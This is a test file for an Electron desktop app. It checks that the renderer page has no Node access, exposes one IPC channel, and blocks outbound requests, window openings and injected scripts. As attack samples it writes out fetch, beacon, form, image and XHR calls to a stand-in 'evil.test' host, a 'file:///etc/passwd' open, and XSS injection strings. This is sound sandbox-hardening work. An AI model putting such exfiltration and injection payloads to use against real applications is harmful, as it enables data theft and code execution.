import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import type { Page } from '@playwright/test';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { standIn } from '../fake/page/chromium-page.ts';
import { aDesktop, eventually, waitingQuestions } from './a-desktop.ts';
import { DesktopApp } from './launch.ts';

let desktop: Awaited<ReturnType<typeof aDesktop>>;
/** The same attempts in a window of a program that guards nothing: what fails there as well proves nothing here. */
let open: { app: DesktopApp; page: Page; folder: string };

beforeAll(async () => {
  desktop = await aDesktop();
  await waitingQuestions(desktop.page).first().waitFor();
  const folder = mkdtempSync(path.join(tmpdir(), 'rounds-open-'));
  const app = new DesktopApp(folder, { chromium: desktop.chromium.address }, [], fileURLToPath(new URL('./unguarded.ts', import.meta.url)));
  const { targetId } = await app.hear('window');
  const page = await eventually(() => pageOf(targetId), (found) => found !== null, 'the unguarded page');
  if (!page) throw new Error('no page');
  open = { app, page, folder };
}, 120_000);
afterAll(async () => {
  await open?.app.kill();
  if (open) rmSync(open.folder, { recursive: true, force: true });
  await desktop?.close();
}, 60_000);

async function pageOf(targetId: string): Promise<Page | null> {
  for (const page of desktop.chromium.browser.contexts()[0]?.pages() ?? []) {
    if (!page.url().startsWith(standIn)) continue;
    const session = await page.context().newCDPSession(page);
    const { targetInfo } = await session.send('Target.getTargetInfo');
    await session.detach();
    if (targetInfo.targetId === targetId) return page;
  }
  return null;
}

/** Puts a mark where the attempt can be seen to have run, and waits for what the attempt sets off. */
const tryIn = (page: Page, code: string): Promise<unknown> => page.evaluate(code).catch((error: Error) => error.message);
const escapes = (app: DesktopApp): string[] => app.all('escaped').map(({ url }) => url);

describe('the page of the desktop app', { timeout: 60_000 }, () => {
  it('knows nothing of Electron or Node, and nothing was put into its world', async () => {
    const { page, app } = desktop;
    const names = (of: Page): Promise<string[]> => of.evaluate(() => Object.getOwnPropertyNames(globalThis));
    const usual = new Set(await names(open.page));
    const found = (await names(page)).filter((name) => !usual.has(name));
    // What is left was put there by the page's own scripts.
    expect(found.filter((name) => !/^__(zod|TSR)_/.test(name))).toEqual([]);
    expect(await page.evaluate(() => [typeof Reflect.get(globalThis, 'require'), typeof Reflect.get(globalThis, 'process'), typeof Reflect.get(globalThis, 'module')])).toEqual(['undefined', 'undefined', 'undefined']);
    expect(app.all('exposed')).toEqual([]);
  });

  it('would be caught exposing something', () => {
    expect(open.app.all('exposed')).toEqual([{ say: 'exposed', key: 'everything' }]);
  });

  it('has one thing it may say to the main process', async () => {
    const { app } = desktop;
    app.do({ do: 'channels' });
    expect((await app.hear('channels')).names).toEqual(['rounds:hello']);
  });

  it.each([
    ['a link', "Object.assign(document.body.appendChild(document.createElement('a')), { href: 'https://evil.test/link' }).click()"],
    ['its location', "location.href = 'https://evil.test/location'"],
    ['a form', "(() => { const form = Object.assign(document.createElement('form'), { action: 'https://evil.test/form', method: 'post' }); document.body.append(form); form.submit(); })()"],
    ['a frame', "Object.assign(document.body.appendChild(document.createElement('iframe')), { src: 'https://evil.test/frame' })"],
    ['a picture', "Object.assign(document.body.appendChild(new Image()), { src: 'https://evil.test/picture.png' })"],
    ['a style sheet', "Object.assign(document.head.appendChild(document.createElement('link')), { rel: 'stylesheet', href: 'https://evil.test/style.css' })"],
    ['fetch', "void fetch('https://evil.test/fetch', { mode: 'no-cors' }).catch(() => {})"],
    ['a beacon', "navigator.sendBeacon('https://evil.test/beacon', 'x')"],
    ['a request of the old kind', "(() => { const ask = new XMLHttpRequest(); ask.open('GET', 'https://evil.test/xhr'); try { ask.send(); } catch {} })()"],
  ])('leads nowhere with %s', async (_, code) => {
    const { page, app } = desktop;
    const before = page.url();
    const [, where] = /(https:\/\/evil\.test\/[\w.]+)/.exec(code) ?? [];
    await tryIn(open.page, code);
    await eventually(() => escapes(open.app), (urls) => urls.some((url) => url === where), `${where} leaving the unguarded page`);
    await tryIn(page, code);
    // A round trip through the page and the main process after the attempt: whatever it set off has been decided.
    await page.evaluate(() => new Promise((resolve) => setTimeout(resolve, 50)));
    expect(escapes(app)).toEqual([]);
    expect(page.url()).toBe(before);
    expect(await waitingQuestions(page).count()).toBeGreaterThan(0);
  });

  it('opens nothing inside, and outside only what may go there', async () => {
    const { page, app } = desktop;
    const pages = () => desktop.chromium.browser.contexts()[0]?.pages().length ?? 0;
    const before = pages();
    for (const url of ['http://evil.test/', 'https://forum.example@evil.test/', 'file:///etc/passwd', 'https://forum.example/t/1']) {
      await tryIn(page, `void window.open(${JSON.stringify(url)})`);
      await tryIn(page, `Object.assign(document.body.appendChild(document.createElement('a')), { href: ${JSON.stringify(url)}, target: '_blank', rel: 'noopener' }).click()`);
    }
    await app.hear('outside');
    await eventually(() => app.all('outside').length, (count) => count === 2, 'both ways to the forum');
    expect(app.all('outside').map(({ url }) => url)).toEqual(['https://forum.example/t/1', 'https://forum.example/t/1']);
    await eventually(pages, (count) => count === before, 'no page more than before');
    expect(escapes(app)).toEqual([]);
    await tryIn(open.page, "void window.open('https://evil.test/window')");
    await eventually(() => escapes(open.app), (urls) => urls.includes('https://evil.test/window'), 'the unguarded page opening a window');
  });

  it('runs no script that is not a file of ours', async () => {
    const attempts = [
      "document.body.append(Object.assign(document.createElement('script'), { textContent: 'globalThis.ran1 = 1' }))",
      "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=\"globalThis.ran2 = 1\">')",
      "document.body.append(document.createRange().createContextualFragment('<script>globalThis.ran3 = 1</script>'))",
      "setTimeout('globalThis.ran4 = 1')",
      // Later, because what is evaluated here at once is the tester's and not the page's.
      "setTimeout(() => new Function('globalThis.ran5 = 1')())",
    ];
    const ran = (page: Page): Promise<string[]> => page.evaluate(() => Object.keys(globalThis).filter((name) => /^ran\d$/.test(name)));
    for (const code of attempts) await tryIn(open.page, code);
    await eventually(() => ran(open.page), (names) => names.length === attempts.length, 'every script running in the unguarded page');
    for (const code of attempts) await tryIn(desktop.page, code);
    await desktop.page.evaluate(() => new Promise((resolve) => setTimeout(resolve, 100)));
    expect(await ran(desktop.page)).toEqual([]);
  });
});
